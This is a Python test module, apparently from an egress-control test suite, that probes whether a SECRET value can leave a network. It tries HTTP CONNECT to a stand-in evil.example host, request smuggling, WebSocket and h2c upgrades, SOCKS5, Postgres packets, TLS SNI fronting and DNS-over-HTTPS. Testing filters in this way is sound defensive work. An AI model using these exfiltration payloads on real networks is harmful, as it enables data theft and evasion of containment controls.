"""What would be let through if only a name, a port or the first bytes were looked at: HTTP, TLS, proxies, other servers."""

from __future__ import annotations

import socket
import ssl
import struct

from attempts import SECRET, SINK_4, attempt

_HOST = b"crm.internal"


def _say(port: int, data: bytes, *, address: str = SINK_4) -> str:
    """Send ``data`` and return what came: ``closed``, or ``answered`` with the first byte."""
    with socket.create_connection((address, port), 6) as dial:
        dial.settimeout(6)
        try:
            dial.sendall(data)
            answer = dial.recv(200)
        except ConnectionError:
            return "closed"
    return f"answered {answer[:1]!r}" if answer else "closed"


def _hello(port: int, name: str | None) -> str:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        with socket.create_connection((SINK_4, port), 6) as dial, context.wrap_socket(dial, server_hostname=name) as secured:
            secured.sendall(SECRET)
            return f"ok {secured.recv(100)!r}"
    except (ssl.SSLError, ConnectionError):
        return "closed"


def _startup() -> bytes:
    body = struct.pack(">I", 196608) + b"user\0crm_app\0database\0crm\0options\0" + SECRET + b"\0\0"
    return struct.pack(">I", len(body) + 4) + body


_GET = b"GET /" + SECRET + b" HTTP/1.1\r\nHost: " + _HOST + b"\r\n"
_REQUESTS = {
    "http-other-host": (80, _GET + b"\r\n"),
    "http-connect": (8888, b"CONNECT " + SECRET + b".evil.example:443 HTTP/1.1\r\nHost: evil\r\n\r\n"),
    "http-smuggled": (
        80,
        b"POST / HTTP/1.1\r\nHost: " + _HOST + b"\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _GET + b"\r\n",
    ),
    "http-websocket": (80, _GET + b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n\r\n"),
    "http-h2c": (80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9) + SECRET),
    "socks5": (9999, b"\x05\x01\x00" + b"\x05\x01\x00\x03\x16" + SECRET + b"\x01\xbb"),
    "postgres-elsewhere": (5433, _startup()),
}
for _name, (_port, _data) in _REQUESTS.items():
    attempt(_name)(lambda port=_port, data=_data: _say(port, data))  # type: ignore[misc]

# The same at a real target's own address and port: what is not its protocol is not passed on.
attempt("target-http")(lambda: _say(5432, _GET + b"\r\n"))
attempt("target-connect")(lambda: _say(5432, b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n"))
attempt("target-socks5")(lambda: _say(5432, b"\x05\x01\x00" + SECRET * 20))
attempt("target-other-port")(lambda: _say(5433, _startup(), address="crm.internal"))

attempt("tls-fronted")(lambda: _hello(443, "crm.internal"))
attempt("tls-nameless")(lambda: _hello(443, None))
attempt("tls-odd-port")(lambda: _hello(8888, "crm.internal"))
attempt("tls-encrypted-name")(lambda: _hello(443, "cloudflare-ech.com"))
attempt("dns-over-https")(lambda: _hello(443, "dns.google"))
attempt("dns-over-tls")(lambda: _hello(853, "one.one.one.one"))
